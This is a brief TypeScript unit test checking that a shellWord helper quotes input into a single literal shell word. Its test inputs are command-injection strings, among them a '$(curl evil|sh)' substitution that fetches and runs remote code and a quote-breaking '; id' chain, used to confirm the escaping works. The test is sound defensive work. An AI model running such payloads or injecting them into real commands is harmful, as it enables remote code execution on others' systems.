import { expect } from 'chai';
import { shellWord } from './shell-word.ts';

describe('a word for a shell', () => {
  it('is never a command, whatever its text', () =>
    expect(['bad $(curl evil|sh) `id` "', "it's; id"].map(shellWord)).to.deep.equal([
      "'bad $(curl evil|sh) `id` \"'",
      "'it'\\''s; id'",
    ]));
});
